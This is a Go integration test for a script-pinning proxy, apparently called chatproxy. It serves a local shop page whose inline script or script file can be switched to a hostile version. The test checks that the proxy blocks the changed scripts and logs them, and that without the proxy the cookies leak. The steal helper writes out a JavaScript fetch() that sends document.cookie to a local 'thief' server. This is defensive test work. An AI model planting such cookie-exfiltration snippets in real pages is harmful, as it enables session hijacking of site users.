package integration

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"chatproxy/integration/browsers"
)

// pinnedSite is a site whose page says something else on each visit, and whose scripts
// can turn hostile.
type pinnedSite struct {
	url       string
	visits    atomic.Int64
	inlineBad atomic.Bool // the inline script sends the cookie off
	fileBad   atomic.Bool // the script file does
	stolen    lines
}

func newPinnedSite(t *testing.T) *pinnedSite {
	t.Helper()
	s := &pinnedSite{}
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprintf(&s.stolen, "[%s]", r.URL.RawQuery)
	}))
	t.Cleanup(thief.Close)
	steal := func(by string) string { return ";fetch('" + thief.URL + "/?" + by + "'+document.cookie)" }
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/static/app.js", "/static/module.js":
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Cache-Control", "no-store")
			how, more := "ran", ""
			if s.fileBad.Load() {
				how, more = "changed", steal("file")
			}
			fmt.Fprintf(w, `document.documentElement.dataset.%s = %q%s`, strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/static/"), ".js"), how, more)
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			more := ""
			if s.inlineBad.Load() {
				more = steal("inline")
			}
			visit := s.visits.Add(1)
			fmt.Fprintf(w, `<!doctype html><title>A shop</title>
<script>
window.__STATE__ = {"visit": %d, "basket": [%s], "name": "O'Neil \u003cb>"};
document.documentElement.dataset.visit = String(window.__STATE__.visit + window.__STATE__.basket.length)%s
</script>
<button onclick="document.documentElement.dataset.clicked='yes'">Buy</button>
<script src="/static/app.js"></script>
<link rel="modulepreload" href="/static/module.js"><script type="module" src="/static/module.js"></script>`, visit*100, strings.TrimSuffix(strings.Repeat(`{"id": 1},`, int(visit%4)), ","), more)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(site.Close)
	s.url = site.URL
	return s
}

// A page whose state changes on every load runs under its lock. The same page with
// code added to its script, or to its script file, does not.
func TestPinnedScriptsRunAndChangedOnesDoNot(t *testing.T) {
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			site := newPinnedSite(t)
			address := freeAddress(t)
			policy := filepath.Join(t.TempDir(), "policy.yaml")
			err := os.WriteFile(policy, []byte(fmt.Sprintf(`version: 1
listen: [%q]
site: {upstream: %q, hosts: [%q]}
chat: {pages: ["/nowhere"]}
xmpp: {domain: example.com, server: "127.0.0.1:1", tls: none}
scripts:
  lock: chatproxy.lock
  rules: [{name: own, match: {src: ["/static/**"]}, action: allow}]
`, address, site.url, address)), 0o600)
			if err != nil {
				t.Fatal(err)
			}
			pin := func(arguments ...string) (string, error) {
				out, err := exec.Command(built, append([]string{"pin", "--policy", policy, "http://" + address + "/"}, arguments...)...).CombinedOutput()
				return string(out), err
			}
			if out, err := pin(); err != nil || !strings.Contains(out, "template sha384-") || !strings.Contains(out, "4 pinned, 4 changed, 0 not pinned") {
				t.Fatalf("%v\n%s", err, out)
			}
			if out, err := pin("--check"); err != nil {
				t.Errorf("nothing has changed: %v\n%s", err, out)
			}
			proxy := run(t, "serve", "--policy", policy)
			proxy.waitFor(t, "msg=listening")
			b := browsers.Start(t, engine)
			how := func(what string) any {
				return b.Eval(`return document.documentElement.dataset[arguments[0]] ?? null`, what)
			}
			ran := func(what string) bool { return how(what) != nil }
			open := func(url string) {
				b.Open(url)
				b.Eval(`document.cookie = "session=secret"`)
				b.Open(url) // with the cookie
				b.Click("button")
				settle(b)
			}

			for range 3 {
				open("http://" + address + "/")
				for _, what := range []string{"visit", "app", "module", "clicked"} {
					if !ran(what) {
						t.Errorf("what was pinned does not run: %s", what)
					}
				}
			}

			site.inlineBad.Store(true)
			open("http://" + address + "/")
			if ran("visit") || !ran("app") {
				t.Errorf("the changed script runs: %t; the others do: %t", ran("visit"), ran("app"))
			}
			site.inlineBad.Store(false)
			site.fileBad.Store(true)
			open("http://" + address + "/")
			// WebKit may run the module as it was, out of its cache.
			if how("app") == "changed" || how("module") == "changed" || !ran("visit") {
				t.Errorf("the changed file: %v, as a module: %v; the others run: %t", how("app"), how("module"), ran("visit"))
			}
			site.inlineBad.Store(true)
			if got := site.stolen.String(); got != "" {
				t.Errorf("behind chatproxy: %s", got)
			}
			if log := proxy.output.String(); !strings.Contains(log, "event=changed-script") || !strings.Contains(log, `line 3 of the script`) || strings.Contains(log, "secret") {
				t.Errorf("the log does not name the change:\n%s", log)
			}
			if out, err := pin("--check"); err == nil || !strings.Contains(out, "~ ") {
				t.Errorf("pin --check sees no change: %v\n%s", err, out)
			}

			open(site.url + "/") // the control
			for _, by := range []string{"[inlinesession=secret]", "[filesession=secret]"} {
				select {
				case <-site.stolen.has(by):
				case <-time.After(20 * time.Second):
					t.Errorf("control: without chatproxy %s is not stolen: %s", by, site.stolen.String())
				}
			}
			if how("app") != "changed" || how("module") != "changed" {
				t.Errorf("control: without chatproxy the changed file does not run: %v, as a module %v", how("app"), how("module"))
			}
		})
	}
}
